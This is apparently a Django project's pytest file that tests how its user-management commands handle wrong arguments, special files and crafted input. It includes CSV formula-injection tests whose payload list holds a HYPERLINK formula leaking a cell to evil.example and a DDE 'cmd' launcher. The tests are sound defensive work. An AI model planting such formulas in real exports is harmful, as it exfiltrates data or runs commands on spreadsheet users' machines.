"""Attacks on the commands with wrong arguments and odd files: every one is a one-line error
(CommandError, exit 1, or a usage error, exit 2) and writes nothing, never a traceback."""

import csv
import json
import os
import stat

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from accounts import names
from accounts.audit.models import SecurityEvent
from accounts.models import User
from accounts.tests.test_commands import run, run_failing, write
from conftest import PASSWORD

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize("age", ["99999999999d", "99999999999h", "3000000d", "100000d"])
def test_prune_events_refuses_an_age_beyond_the_calendar(user, age):
    SecurityEvent.objects.create(type="login_succeeded", user=user)

    message, _ = run_failing("prune_events", "--older-than", age)

    assert "--older-than" in message and "\n" not in message
    assert SecurityEvent.objects.count() == 1


@pytest.mark.parametrize("interval", ["-1", "nan", "inf", "-inf", "1e400", "1e300", "0", "two"])
def test_deliver_webhooks_refuses_an_interval_it_cannot_sleep(interval):
    message, _ = run_failing("deliver_webhooks", "--interval", interval)

    assert "--interval" in message and "\n" not in message


def test_export_users_to_a_directory_is_a_one_line_error_and_leaves_nothing(tmp_path, user):
    target = tmp_path / "exports"
    target.mkdir()

    message, _ = run_failing("export_users", "--output", str(target))

    assert message.startswith(f"Cannot write {target}") and "\n" not in message
    assert list(tmp_path.iterdir()) == [target] and list(target.iterdir()) == []


@pytest.mark.parametrize("depth", [10_000, 200_000])
def test_import_users_refuses_json_nested_too_deep(tmp_path, depth):
    path = write(tmp_path, "deep.json", '[{"email": "a@example.com"},\n' + "[" * depth)

    message, err = run_failing("import_users", str(path))

    assert "aborted" in message and "\n" not in message
    assert f"{path}:2: not valid JSON" in err
    assert not User.objects.exists()


@pytest.mark.parametrize(
    "moment", ["0001-01-01T00:00:00+14:00", "9999-12-31T23:59:59-14:00", "0001-01-01T05:00+05:01"]
)
@pytest.mark.parametrize("column", ["date_joined", "last_login"])
def test_import_users_refuses_a_time_beyond_the_calendar_in_utc(tmp_path, column, moment):
    path = write(tmp_path, "users.csv", f"email,{column}\na@example.com,{moment}\n")

    message, err = run_failing("import_users", str(path))

    assert "aborted" in message and "\n" not in message
    assert f"{path}:2: {column}: '{moment}' is out of range" in err
    assert not User.objects.exists()


def test_import_users_keeps_a_time_at_the_edge_of_the_calendar(tmp_path):
    path = write(tmp_path, "users.csv", "email,date_joined\na@example.com,0001-01-01T10:00+10:00\n")

    run("import_users", str(path))

    assert User.objects.get().date_joined.isoformat() == "0001-01-01T00:00:00+00:00"


def test_export_users_never_replaces_a_special_file_or_a_symlink(tmp_path, user):
    # As root, `--output /dev/full` (or /dev/stdout) renamed the export over the device node.
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    message, _ = run_failing("export_users", "--output", str(fifo))
    assert "not a regular file" in message and "\n" not in message
    assert stat.S_ISFIFO(fifo.lstat().st_mode)

    real = tmp_path / "real.csv"
    real.write_text("old")
    link = tmp_path / "link.csv"
    link.symlink_to(real)
    run("export_users", "--output", str(link))
    assert link.is_symlink() and user.email in real.read_text()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["fifo", "link.csv", "real.csv"]


def test_changepassword_with_its_input_closed_is_a_one_line_error(monkeypatch, user):
    def end_of_input(prompt=""):
        raise EOFError  # what getpass does when stdin ends (`changepassword ada </dev/null`)

    monkeypatch.setattr("getpass.getpass", end_of_input)

    message, _ = run_failing("changepassword", user.email)

    assert "input ended" in message and "\n" not in message
    assert User.objects.get(pk=user.pk).check_password(PASSWORD)


@pytest.mark.parametrize("size", ["100001", "99999999999999"])
def test_seed_users_refuses_a_batch_too_big_to_hold_in_memory(size):
    # 99999999999999 built its first batch in memory until the machine ran out of it.
    message, _ = run_failing("seed_users", "--count", "99999999999999999999", "--batch-size", size)

    assert "--batch-size" in message and "at most 100000" in message
    assert not User.objects.exists()


# --- CSV export: a carriage return in a name stays inside its cell -------------------------------


def test_export_users_csv_quotes_a_carriage_return_so_the_row_stays_one_row(tmp_path):
    # A name stored before names refused control characters (accounts.names) may hold a carriage
    # return; the CSV writer quoted only "\n" (its line terminator), so the row broke in two.
    User.objects.create_user(email="cr@example.com", first_name="Ada\rLovelace")
    target = tmp_path / "users.csv"
    run("export_users", "--output", str(target))

    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["first_name"] for row in rows] == ["Ada\rLovelace"]
    # One row, read whole: the import names the name's problem on line 2, not a broken row.
    message, err = run_failing("import_users", str(target))
    assert "nothing was written" in message
    assert err.startswith(f"{target}:2: first_name"), err


# --- CSV export: a name is never a spreadsheet formula -----------------------------------------

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
CRAFTED_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
    "'t Hooft",
    "O'Brien",
    "plain",
    "",
]
NAMES_ALLOWED_NOW = [name for name in CRAFTED_NAMES if not names.problem(name)]


def test_export_users_csv_never_starts_a_cell_with_a_formula(tmp_path, api_client):
    for number, name in enumerate(CRAFTED_NAMES):
        response = api_client.post(
            "/api/v1/auth/register/",
            {
                "email": f"sheet{number}@example.com",
                "password": PASSWORD,
                "first_name": name,
                "last_name": name,
            },
            format="json",
        )
        assert response.status_code == 201, response.content
    target = tmp_path / "users.csv"
    run("export_users", "--output", str(target))

    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))[1:]

    assert len(rows) == len(CRAFTED_NAMES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    # names as accounts.names allows them (no control characters): "\t" and "\r" starts are
    # covered above by rows stored before that rule
    first=st.sampled_from(NAMES_ALLOWED_NOW) | st.text(alphabet="=+-@' ab", max_size=8),
    last=st.sampled_from(NAMES_ALLOWED_NOW),
)
def test_export_then_import_of_formula_like_names_changes_nothing(tmp_path_factory, first, last):
    User.objects.all().delete()
    User.objects.create_user(email="round@example.com", first_name=first, last_name=last)
    target = tmp_path_factory.mktemp("export") / "users.csv"
    run("export_users", "--output", str(target))

    out, _ = run("import_users", str(target))

    assert "0 created, 0 updated, 1 unchanged" in out
    stored = User.objects.get()
    assert (stored.first_name, stored.last_name) == (first, last)


@pytest.mark.parametrize("email", ["-bob@example.com", "+bob@example.com", "=bob@example.com"])
def test_an_email_that_looks_like_a_formula_round_trips(tmp_path, email):
    User.objects.create_user(email=email)
    target = tmp_path / "users.csv"
    run("export_users", "--output", str(target))
    assert f"\n{User.objects.get().pk},'{email}," in target.read_text(encoding="utf-8")

    out, _ = run("import_users", str(target))

    assert "0 created, 0 updated, 1 unchanged" in out
    assert User.objects.get().email == email


@pytest.mark.parametrize("column", ["first_name", "last_name", "password"])
@pytest.mark.parametrize("bad", ["\x00", "\ud800"])
def test_import_users_refuses_a_nul_or_lone_surrogate_in_any_text_cell(tmp_path, column, bad):
    path = tmp_path / "users.json"
    value = f"Ada{bad}correct horse battery"
    path.write_text(json.dumps([{"email": "ada@example.com", column: value}]))

    message, err = run_failing("import_users", str(path))

    assert "nothing was written" in message and column in err
    assert not User.objects.exists()
